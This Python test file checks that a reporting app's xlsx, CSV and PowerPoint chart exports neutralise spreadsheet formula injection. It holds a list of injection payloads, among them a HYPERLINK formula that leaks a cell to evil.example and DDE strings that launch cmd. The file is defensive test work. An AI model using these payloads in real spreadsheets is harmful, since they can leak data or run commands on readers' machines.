"""Every export writes text as text: no formula reaches the spreadsheets leaders open.

The files are opened the way a reader would (openpyxl for .xlsx, the csv module for CSV);
the expected cells are the typed texts, written out here by hand.
"""

import csv
import io

import pandas as pd
from openpyxl import load_workbook

from ui.downloads import Col, frames, to_csv, to_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+84 cán bộ thu thêm phí",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
PLAIN = ["Cán bộ nhiệt tình", "http://evil.example"]


def _export():
    texts = HOSTILE + PLAIN
    columns = [Col("Ý kiến", "Comment", texts), Col("Điểm", "Score", [-1, 2, 3, 4, 5, 6, 7, 8], "int")]
    return frames(columns, "vi")[1]


def test_xlsx_cells_are_text_never_formulas_or_links():
    sheet = load_workbook(io.BytesIO(to_xlsx(_export()))).active
    rows = list(sheet.iter_rows(min_row=2))
    # Reads exactly as typed (XlsxWriter stores a carriage return as _x000D_, which Excel shows
    # as the character and openpyxl leaves as it is).
    assert [r[0].value.replace("_x000D_", "\r") for r in rows] == HOSTILE + PLAIN
    assert all(r[0].data_type == "s" for r in rows)  # "f" would be a live formula
    assert all(r[0].hyperlink is None for r in rows)
    assert [r[1].value for r in rows] == [-1, 2, 3, 4, 5, 6, 7, 8] and rows[0][1].data_type == "n"


def test_csv_cells_that_would_be_formulas_start_with_a_quote():
    text = to_csv(_export()).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["Ý kiến", "Điểm"]
    assert [r[0] for r in rows[1:]] == ["'" + h for h in HOSTILE] + PLAIN
    assert [r[1] for r in rows[1:]] == ["-1", "2", "3", "4", "5", "6", "7", "8"]  # numbers stay numbers


def test_rejected_rows_file_of_the_command_line_is_neutralised(tmp_path):
    from ingest.safe_csv import write_csv  # what python -m data_access.ingest --rejected writes with

    write_csv(pd.DataFrame({"comment": HOSTILE[:1]}), tmp_path / "rejected.csv")
    rows = list(csv.reader(io.StringIO((tmp_path / "rejected.csv").read_text("utf-8-sig"), newline="")))
    assert rows == [["comment"], ["'" + HOSTILE[0]]]


def test_briefing_chart_data_holds_unit_names_as_text():
    from pptx import Presentation
    from pptx.enum.chart import XL_CHART_TYPE
    from pptx.util import Inches

    from reports.pptx_pack import SafeCategoryChartData

    data = SafeCategoryChartData()
    data.categories = ["=1+1", "Phường Bến Nghé"]
    data.add_series("=cmd|' /C calc'!A0", [1.0, 2.0])
    deck = Presentation()
    chart = deck.slides.add_slide(deck.slide_layouts[6]).shapes.add_chart(XL_CHART_TYPE.BAR_CLUSTERED, Inches(1), Inches(1), Inches(4), Inches(3), data).chart
    sheet = load_workbook(io.BytesIO(chart.part.chart_workbook.xlsx_part.blob)).active
    cells = {c.coordinate: c for row in sheet.iter_rows() for c in row if c.value is not None}
    assert cells["A2"].value == "=1+1" and cells["A2"].data_type == "s"
    assert cells["B1"].value == "=cmd|' /C calc'!A0" and cells["B1"].data_type == "s"
